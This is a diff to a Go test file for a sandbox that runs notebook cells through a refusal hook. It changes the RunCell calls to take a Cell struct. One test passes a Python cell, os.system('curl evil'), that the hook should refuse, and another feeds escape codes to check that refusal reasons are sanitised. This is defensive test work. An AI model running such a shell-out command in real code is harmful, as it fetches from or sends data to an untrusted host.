@@ -64,7 +64,7 @@ func TestRefusesOSSystemAndRunsTheNextCell(t *testing.T) {
 	ctx := context.Background()
 
 	var events []cell.Event
-	res, err := m.RunCell(ctx, id, "import os\nos.system('curl evil')", time.Minute, func(e cell.Event) { events = append(events, e) })
+	res, err := m.RunCell(ctx, id, sandbox.Cell{Code: "import os\nos.system('curl evil')", Timeout: time.Minute}, func(e cell.Event) { events = append(events, e) })
 	if err != nil {
 		t.Fatalf("refused cell: err %v, want a result", err)
 	}
@@ -87,7 +87,7 @@ func TestRefusesOSSystemAndRunsTheNextCell(t *testing.T) {
 		t.Errorf("OnRefuse got %+v", refusals)
 	}
 
-	res, err = m.RunCell(ctx, id, "x = 6\nx", time.Minute, nil)
+	res, err = m.RunCell(ctx, id, sandbox.Cell{Code: "x = 6\nx", Timeout: time.Minute}, nil)
 	if err != nil || res.Status != cell.StatusOK || IsRefusedCell(res) {
 		t.Fatalf("allowed cell: %+v, %v", res, err)
 	}
@@ -126,7 +126,7 @@ func TestHookGetsTheRequest(t *testing.T) {
 	dir := t.TempDir()
 	m, _, id := setup(t, `cat > "`+dir+`/in.$$"`+"\n", 0, nil)
 	ctx := sandbox.WithCaller(context.Background(), sandbox.Caller{Tenant: "alpha", TokenID: "1a2b3c4d", Peer: "10.0.0.9:4000"})
-	if _, err := m.RunCell(ctx, id, "print('\"quoted\"\\n')", time.Minute, nil); err != nil {
+	if _, err := m.RunCell(ctx, id, sandbox.Cell{Code: "print('\"quoted\"\\n')", Timeout: time.Minute}, nil); err != nil {
 		t.Fatal(err)
 	}
 	if _, err := m.Exec(ctx, id, sandbox.ExecRequest{Argv: []string{"echo", "a b"}, Timeout: time.Minute}); err != nil {
@@ -170,7 +170,7 @@ func TestHookPastItsDeadlineRefuses(t *testing.T) {
 	// A child that holds the output pipes open too: the whole group goes.
 	m, inner, id := setup(t, "(sleep 30; true) &\nsleep 30\n", 300*time.Millisecond, nil)
 	start := time.Now()
-	res, err := m.RunCell(context.Background(), id, "x = 1", time.Minute, nil)
+	res, err := m.RunCell(context.Background(), id, sandbox.Cell{Code: "x = 1", Timeout: time.Minute}, nil)
 	if err != nil {
 		t.Fatal(err)
 	}
@@ -200,7 +200,7 @@ func TestCrashingHookRefuses(t *testing.T) {
 			if name == "bad binary" {
 				os.WriteFile(m.hook.path, []byte("\x7fELF garbage"), 0o755)
 			}
-			res, err := m.RunCell(context.Background(), id, "x = 1", time.Minute, nil)
+			res, err := m.RunCell(context.Background(), id, sandbox.Cell{Code: "x = 1", Timeout: time.Minute}, nil)
 			if err != nil {
 				t.Fatal(err)
 			}
@@ -222,7 +222,7 @@ func TestCrashingHookRefuses(t *testing.T) {
 
 func TestReasonIsSanitisedAndClipped(t *testing.T) {
 	m, _, id := setup(t, `printf '\n  \033[31mno\033[0m\tway\342\200\256 %0500d\n' 0 >&2; head -c 100000 /dev/zero; exit 1`+"\n", 0, nil)
-	res, err := m.RunCell(context.Background(), id, "x = 1", time.Minute, nil)
+	res, err := m.RunCell(context.Background(), id, sandbox.Cell{Code: "x = 1", Timeout: time.Minute}, nil)
 	if err != nil {
 		t.Fatal(err)
 	}
@@ -236,17 +236,17 @@ func TestErrorsBeforeTheHook(t *testing.T) {
 	dir := t.TempDir()
 	m, inner, id := setup(t, `touch "`+dir+`/ran"; exit 1`+"\n", 0, nil)
 	ctx := context.Background()
-	if _, err := m.RunCell(ctx, "sb-nosuch", "x = 1", time.Minute, nil); !errors.Is(err, sandbox.ErrNotFound) {
+	if _, err := m.RunCell(ctx, "sb-nosuch", sandbox.Cell{Code: "x = 1", Timeout: time.Minute}, nil); !errors.Is(err, sandbox.ErrNotFound) {
 		t.Errorf("unknown sandbox: %v, want ErrNotFound", err)
 	}
 	if _, err := m.Exec(ctx, id, sandbox.ExecRequest{Timeout: time.Minute}); !errors.Is(err, sandbox.ErrInvalid) {
 		t.Errorf("empty argv: %v, want ErrInvalid", err)
 	}
-	if _, err := m.RunCell(ctx, id, strings.Repeat("x", sandbox.MaxCodeBytes+1), time.Minute, nil); !errors.Is(err, sandbox.ErrTooLarge) {
+	if _, err := m.RunCell(ctx, id, sandbox.Cell{Code: strings.Repeat("x", sandbox.MaxCodeBytes+1), Timeout: time.Minute}, nil); !errors.Is(err, sandbox.ErrTooLarge) {
 		t.Errorf("huge cell: %v, want ErrTooLarge", err)
 	}
 	inner.Lose(id, sandbox.LostInfo{Reason: "test"})
-	if _, err := m.RunCell(ctx, id, "x = 1", time.Minute, nil); !errors.Is(err, sandbox.ErrLost) {
+	if _, err := m.RunCell(ctx, id, sandbox.Cell{Code: "x = 1", Timeout: time.Minute}, nil); !errors.Is(err, sandbox.ErrLost) {
 		t.Errorf("lost sandbox: %v, want ErrLost", err)
 	}
 	if _, err := os.Stat(filepath.Join(dir, "ran")); err == nil {
@@ -259,7 +259,7 @@ func TestCancelledRequestEndsTheHook(t *testing.T) {
 	ctx, cancel := context.WithTimeout(context.Background(), 200*time.Millisecond)
 	defer cancel()
 	start := time.Now()
-	if _, err := m.RunCell(ctx, id, "x = 1", time.Minute, nil); !errors.Is(err, context.DeadlineExceeded) {
+	if _, err := m.RunCell(ctx, id, sandbox.Cell{Code: "x = 1", Timeout: time.Minute}, nil); !errors.Is(err, context.DeadlineExceeded) {
 		t.Errorf("err %v, want the request's own deadline", err)
 	}
 	if d := time.Since(start); d > 5*time.Second {
@@ -276,7 +276,7 @@ func TestConcurrentHooksAreBounded(t *testing.T) {
 	for i := 0; i < MaxConcurrent; i++ {
 		m.hook.slots <- struct{}{}
 	}
-	res, err := m.RunCell(context.Background(), id, "x = 1", time.Minute, nil)
+	res, err := m.RunCell(context.Background(), id, sandbox.Cell{Code: "x = 1", Timeout: time.Minute}, nil)
 	if err != nil {
 		t.Fatal(err)
 	}
@@ -284,7 +284,7 @@ func TestConcurrentHooksAreBounded(t *testing.T) {
 		t.Errorf("with every slot taken: %+v, want a refusal saying so", res.Error)
 	}
 	<-m.hook.slots
-	if res, err := m.RunCell(context.Background(), id, "x = 1", time.Minute, nil); err != nil || res.Status != cell.StatusOK {
+	if res, err := m.RunCell(context.Background(), id, sandbox.Cell{Code: "x = 1", Timeout: time.Minute}, nil); err != nil || res.Status != cell.StatusOK {
 		t.Errorf("with a slot free: %+v, %v", res, err)
 	}
 	if ran := ranCells(inner); len(ran) != 1 {
@@ -296,7 +296,7 @@ func TestConcurrentHooksAreBounded(t *testing.T) {
 // allows: its closed stdin is not a failure.
 func TestHookThatIgnoresItsInput(t *testing.T) {
 	m, _, id := setup(t, "exit 0\n", 0, nil)
-	res, err := m.RunCell(context.Background(), id, "x = 1\n"+strings.Repeat("#", sandbox.MaxCodeBytes-7), time.Minute, nil)
+	res, err := m.RunCell(context.Background(), id, sandbox.Cell{Code: "x = 1\n" + strings.Repeat("#", sandbox.MaxCodeBytes-7), Timeout: time.Minute}, nil)
 	if err != nil || IsRefusedCell(res) {
 		t.Errorf("%+v, %v", res.Error, err)
 	}
